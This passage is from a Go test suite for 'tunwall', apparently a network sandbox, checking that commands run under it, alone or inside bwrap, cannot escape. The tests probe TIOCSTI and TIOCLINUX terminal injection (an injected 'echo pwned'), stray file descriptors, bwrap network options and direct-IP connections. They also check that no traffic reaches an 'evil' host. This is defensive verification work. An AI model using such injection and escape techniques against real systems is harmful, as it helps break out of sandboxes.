			cmd, _ := w.tunwallCmd(ctx, runOpts{asUser: c.asUser, bwrap: c.bwrap, flags: []string{"--allow", "allowed.test", "--quiet"}, script: script}, map[bool]string{true: "bwrap", false: "run"}[c.bwrap != nil])
			cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			slave.Close()
			out := newPTYReader(master)
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			if !out.waitFor("TYPE-A-LINE", 30*time.Second) {
				cmd.Process.Kill()
				<-done
				t.Fatalf("the command never asked for a line:\n%s", out)
			}
			master.Write([]byte("typed by the user\n"))
			if !out.waitFor("PRESS-CTRL-C", 10*time.Second) {
				cmd.Process.Kill()
				<-done
				t.Fatalf("the typed line never arrived:\n%s", out)
			}
			master.Write([]byte{0x03}) // ^C, as the terminal's line discipline sees it
			var err error
			select {
			case err = <-done:
			case <-time.After(20 * time.Second):
				cmd.Process.Kill()
				<-done
				t.Fatalf("^C did not interrupt the command:\n%s", out)
			}
			got := out.String()
			t.Logf("terminal:\n%s", got)
			for _, want := range []string{"TIOCSTI EPERM", "TIOCSTI-high-bits EPERM", "TIOCLINUX EPERM", "INQ 0", "DEVTTY ok", "got:typed by the user"} {
				if !strings.Contains(got, want) {
					t.Errorf("want %q on the terminal", want)
				}
			}
			for _, abi := range []string{"TIOCSTI-i386", "TIOCSTI-x32"} {
				if strings.Contains(got, abi+" ok") {
					t.Errorf("%s succeeded", abi)
				}
			}
			if strings.Contains(got, "pwned") && !strings.Contains(got, "echo pwned") {
				t.Errorf("injected input ran")
			}
			if strings.Contains(got, "got:echo pwned") || strings.Contains(got, "got:x") {
				t.Errorf("injected input reached the terminal's input queue")
			}
			code := cmd.ProcessState.ExitCode()
			if strings.Contains(got, "not interrupted") {
				t.Errorf("^C did not interrupt the command (exit %d, %v)", code, err)
			}
			// run: the command's trap runs (exit 3). bwrap: ^C also reaches
			// bwrap itself, which dies of it as it does outside tunwall and
			// takes the sandbox with it (--die-with-parent): 3 or 130.
			if code != 3 && !(c.bwrap != nil && code == 130) {
				t.Errorf("exit %d after ^C, want the command's trap status 3", code)
			}
		})
	}
}

// TestTheSandboxGetsNoStrayDescriptors checks item 11a: the command starts
// with exactly stdin, stdout and stderr.
func TestTheSandboxGetsNoStrayDescriptors(t *testing.T) {
	w := newWorld(t)
	attacker := w.buildAttacker()
	for _, c := range []boundaryCase{
		{"run/root", 0, nil},
		{"run/rootless", 65534, nil},
		{"bwrap/root", 0, bwrapBase},
		{"bwrap/rootless", 65534, bwrapBase},
	} {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			w.forCase(c)
			r := w.mustRun(0, runOpts{asUser: c.asUser, bwrap: c.bwrap, flags: []string{"--allow", "allowed.test", "--quiet"}, argv: []string{attacker, "fds"}})
			wantLines(t, r, "FDS 0 1 2")
		})
	}
}

// TestBwrapNetworkOptionsCannotLeaveTheTUN: bwrap runs inside the TUN-only
// network namespace, so --share-net shares only that, and --unshare-net and
// --unshare-all do not take the TUN away.
func TestBwrapNetworkOptionsCannotLeaveTheTUN(t *testing.T) {
	requireTools(t, "bwrap", "curl")
	w := newWorld(t)
	for _, opts := range [][]string{{"--unshare-all", "--share-net"}, {"--unshare-net"}, {"--unshare-all"}} {
		r := w.mustRun(0, runOpts{
			bwrap:  append(append([]string{}, bwrapBase...), opts...),
			flags:  []string{"--allow", "allowed.test:80"},
			script: `ip -o link show | awk -F': ' '{print $2}'; curl -sS http://allowed.test/bwrap; curl -sS --max-time 10 https://192.0.2.66/ 2>/dev/null; echo "raw ip: $?"`,
		})
		wantLines(t, r, "lo", "tun0", "web allowed.test /bwrap", "raw ip: 7")
	}
	w.noArrivals("evil")
}

// TestBwrapForwardsSIGTERMToTheCommand: tunwall's SIGTERM reaches the
// command bwrap runs (not bwrap's reaper, which would ignore it, nor bwrap
// itself, whose death would SIGKILL the command).
func TestBwrapForwardsSIGTERMToTheCommand(t *testing.T) {
	requireTools(t, "bwrap")
	w := newWorld(t)
	for _, pid1 := range []bool{false, true} {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		opts := append([]string{}, bwrapBase...)
		if pid1 {
			opts = append(opts, "--as-pid-1")
		}
		cmd, _ := w.tunwallCmd(ctx, runOpts{
			bwrap:  opts,
			flags:  []string{"--allow", "allowed.test", "--quiet"},
			script: `trap 'echo got TERM; exit 42' TERM; echo ready; n=0; while [ $n -lt 600 ]; do sleep 0.05; n=$((n+1)); done`,
		}, "bwrap")
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		br := bufio.NewReader(out)
		if line, _ := br.ReadString('\n'); line != "ready\n" {
			t.Fatalf("want ready, got %q", line)
		}
		// The command's trap is set: wait (bounded) until tunwall can see it
		// under bwrap's pid 1, then signal.
		for i := 0; i < 100 && len(descendants(cmd.Process.Pid)) < 3; i++ {
			time.Sleep(10 * time.Millisecond)
		}
		cmd.Process.Signal(syscall.SIGTERM)
		rest, _ := io.ReadAll(br)
		err = cmd.Wait()
		cancel()
		if cmd.ProcessState.ExitCode() != 42 || string(rest) != "got TERM\n" {
			t.Errorf("--as-pid-1 %v: want exit 42 and 'got TERM', got %v %q", pid1, err, rest)
		}
	}
}

// TestSIGKILLOfTunwallBwrapLeavesNoProcess: bwrap now runs under a process
// tunwall starts in the sandbox's namespaces; when tunwall dies, the whole
// bwrap sandbox must still go with it (its network is gone with the TUN).
func TestSIGKILLOfTunwallBwrapLeavesNoProcess(t *testing.T) {
	requireTools(t, "bwrap")
	w := newWorld(t)
	for _, c := range []boundaryCase{{"root", 0, bwrapBase}, {"rootless", 65534, bwrapBase}} {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			w.forCase(c)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			cmd, _ := w.tunwallCmd(ctx, runOpts{asUser: c.asUser, bwrap: c.bwrap, flags: []string{"--allow", "allowed.test", "--quiet"},
				script: `echo ready; n=0; while [ $n -lt 1200 ]; do sleep 0.05; n=$((n+1)); done`}, "bwrap")
			out, _ := cmd.StdoutPipe()
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			if line, _ := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
				t.Fatalf("want ready, got %q", line)
			}
			tw := cmd.Process.Pid // ip netns exec and setpriv exec tunwall in place
			pids := descendants(tw)
			if len(pids) < 3 {
				t.Fatalf("expected bwrap and the command below tunwall, found %v", pids)
			}
			syscall.Kill(tw, syscall.SIGKILL)
			cmd.Wait()
			deadline := time.Now().Add(5 * time.Second)
			for {
				var alive []string
				for _, p := range pids {
					b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p))
					if err == nil && !strings.Contains(string(b), ") Z ") {
						alive = append(alive, fmt.Sprintf("%d %s", p, b[:min(len(b), 40)]))
					}
				}
				if len(alive) == 0 {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("sandbox processes outlived tunwall's SIGKILL: %v", alive)
				}
				time.Sleep(20 * time.Millisecond)
			}
		})
	}
}

// TestBwrapGetsTheDescriptorsItsOptionsName: a descriptor named by a bwrap
// option reaches bwrap; another one the caller happens to pass does not.
func TestBwrapGetsTheDescriptorsItsOptionsName(t *testing.T) {
	requireTools(t, "bwrap")
	w := newWorld(t)
	attacker := w.buildAttacker()
	named, err := os.CreateTemp(w.dir, "named")
	if err != nil {
		t.Fatal(err)
	}
	named.WriteString("passed by --file\n")
	named.Seek(0, 0)
	stray, err := os.Open(w.dir)
	if err != nil {
		t.Fatal(err)
	}
	defer named.Close()
	defer stray.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd, _ := w.tunwallCmd(ctx, runOpts{
		bwrap:  append(append([]string{}, bwrapBase...), "--tmpfs", "/mnt", "--file", "9", "/mnt/passed"),
		flags:  []string{"--allow", "allowed.test", "--quiet"},
		script: fmt.Sprintf("cat /mnt/passed; exec %s fds", attacker),
	}, "bwrap")
	// fd 9: named by --file; fd 10: passed, but named by nothing.
	cmd.ExtraFiles = []*os.File{nil, nil, nil, nil, nil, nil, named, stray}
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s\n%s", err, out, stderr.String())
	}
	if got := string(out); got != "passed by --file\nFDS 0 1 2\n" {
		t.Fatalf("got %q", got)
	}
}
